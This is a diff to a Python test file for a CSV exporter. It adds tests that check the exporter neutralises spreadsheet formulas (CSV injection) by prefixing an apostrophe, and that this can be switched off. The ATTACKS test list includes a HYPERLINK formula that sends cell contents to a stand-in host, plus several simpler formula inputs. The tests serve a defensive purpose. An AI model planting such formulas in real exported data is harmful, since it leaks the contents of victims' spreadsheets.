@@ -11,10 +11,10 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from halt_adapters.export import DirectorySink
-from halt_adapters.export.csvfiles import CsvExporter
+from halt_adapters.export import DirectorySink, csvfiles
+from halt_adapters.export.csvfiles import FORMULA_STARTS, CsvExporter, neutralised
 from halt_core.errors import ExportFailed, HaltError, InvalidValue
-from halt_core.export import TABLES, Cell, Table, ZipSink, export
+from halt_core.export import TABLES, Cell, Column, Table, ZipSink, export
 from halt_core.model import Meeting, Network, Partner, Referral
 from halt_core.plugins import exporter
 from halt_core.testing import strategies as hs
@@ -22,8 +22,15 @@ from halt_core.testing import strategies as hs
 from .conftest import GENERATED_AT
 
 
-def text(cell: Cell) -> str:
+def text(cell: Cell, *, neutral: bool = True) -> str:
     """How the CSV format promises to write a cell, written out independently."""
+    if (
+        isinstance(cell, str)
+        and neutral
+        and cell[:1]
+        and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
+    ):
+        return "'" + cell  # a formula for a spreadsheet: neutralised, as OWASP advises
     if cell is None:
         return ""
     if isinstance(cell, bool):
@@ -208,7 +215,9 @@ def test_an_unknown_setting_lists_the_known_ones(network: Network) -> None:
 
 
 TRICKY = st.lists(
-    st.sampled_from([",", ";", '"', "'", "\n", "\r", "\r\n", "\t", " ", "a", "é"])
+    st.sampled_from(
+        [",", ";", '"', "'", "\n", "\r", "\r\n", "\t", " ", "a", "é", "=", "+", "-", "@", "\uff1d"]
+    )
 ).map("".join)
 
 
@@ -263,3 +272,76 @@ def test_a_kind_asked_for_without_records_gets_a_header_only_file() -> None:
     out = io.BytesIO()
     export(Network.empty(), out, "csv", kinds=[Partner])
     assert out.getvalue().decode().splitlines() == [",".join(TABLES[Partner].header)]
+
+
+# -- formulas: CSV injection ------------------------------------------------------------------
+
+ATTACKS = [
+    '=HYPERLINK("http://example.org/?leak="&A1,"klik hier")',
+    "=1+1",
+    "+31 20 123 4567",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+
+
+def _partners_named(network: Network, names: Sequence[str]) -> list[Partner]:
+    return [
+        attrs.evolve(partner, name=name, notes=name)
+        for partner, name in zip(network.partners, names, strict=False)
+    ]
+
+
+def test_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe(network: Network) -> None:
+    out = io.BytesIO()
+    partners = _partners_named(network, ATTACKS)
+    export(partners, out, "csv", generated_at=GENERATED_AT)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert [row["name"] for row in rows] == ["'" + name for name in ATTACKS]
+    assert [row["notes"] for row in rows] == ["'" + name for name in ATTACKS]
+    assert rows[0]["id"] == str(partners[0].id)  # other cells as they are
+    assert not any(row["name"][0] in FORMULA_STARTS for row in rows)
+
+
+def test_machine_readers_can_have_every_cell_as_stored(network: Network) -> None:
+    out = io.BytesIO()
+    partners = _partners_named(network, ATTACKS)
+    settings = {"neutralise_formulas": "false"}
+    export(partners, out, "csv", generated_at=GENERATED_AT, settings=settings)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert [row["name"] for row in rows] == ATTACKS
+
+
+def test_harmless_text_and_typed_cells_are_never_changed() -> None:
+    assert neutralised("Politie Amsterdam") == "Politie Amsterdam"
+    assert neutralised("") == ""
+    assert neutralised(" =1") == " =1"
+    assert neutralised("a=1") == "a=1"
+    table = Table(
+        "numbers",
+        object,
+        (
+            Column("count", lambda r: -3),
+            Column("day", lambda r: dt.date(2026, 9, 1)),
+            Column("text", lambda r: "-3"),
+        ),
+    )
+    out = io.BytesIO()
+    csvfiles._write_table(out, table, [object()], ",")
+    assert out.getvalue().decode().splitlines() == ["count,day,text", "-3,2026-09-01,'-3"]
+
+
+def test_the_readme_says_how_formulas_were_written(network: Network) -> None:
+    for setting, expected in (("true", "starts with an\napostrophe"), ("false", "as stored")):
+        data = zipped(network, settings={"neutralise_formulas": setting})
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            assert expected in archive.read("README.txt").decode()
+
+
+def test_a_bad_neutralise_setting_is_refused(network: Network) -> None:
+    with pytest.raises(InvalidValue) as caught:
+        zipped(network, settings={"neutralise_formulas": "sometimes"})
+    assert (caught.value.field, caught.value.value) == ("neutralise_formulas", "sometimes")
